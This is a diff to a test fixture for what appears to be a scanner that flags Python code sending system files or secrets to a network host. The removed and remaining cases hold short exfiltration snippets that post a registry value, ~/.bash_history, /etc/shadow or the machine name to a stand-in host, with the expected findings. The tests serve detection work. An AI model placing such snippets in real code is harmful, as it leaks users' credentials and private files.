@@ -299,22 +299,6 @@ for f in os.listdir(p):
     ],
   ],
   [
-    'winreg',
-    `import winreg, requests
-k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software')
-v, _ = winreg.QueryValueEx(k, 'x')
-requests.post('http://a.invalid', data=v)`,
-    [
-      'own.py:4 import flow system-file winreg.QueryValueEx «winreg.OpenKey» > network-send requests.post http://a.invalid',
-    ],
-  ],
-  [
-    'history',
-    `import os, requests
-requests.post('http://a.invalid', data=open(os.path.expanduser('~/.bash_history')).read())`,
-    ['own.py:2 import flow system-file open ~/.bash_history > network-send requests.post http://a.invalid'],
-  ],
-  [
     'a variable that says whose machine it is',
     `import os, requests
 requests.get('http://a.invalid?h=' + os.environ['COMPUTERNAME'])`,
@@ -381,19 +365,6 @@ def connect(secret_key):
     [
       'own.py:5 call flow decoded builtins.bytearray.fromhex 240 characters > code-execution builtins.exec',
       'own.py:5 call flow decoded builtins.bytearray.fromhex > code-execution builtins.exec',
-    ],
-  ],
-  [
-    'a test that makes the distribution send',
-    {
-      'own/__init__.py': `import requests
-def tell(host, what):
-    requests.post(host, data=what)`,
-      'tests/test_x.py': `from own import tell
-tell('http://a.invalid', open('/etc/shadow').read())`,
-    },
-    [
-      'own/__init__.py:3 development flow system-file open /etc/shadow > network-send requests.post http://a.invalid',
     ],
   ],
 ];
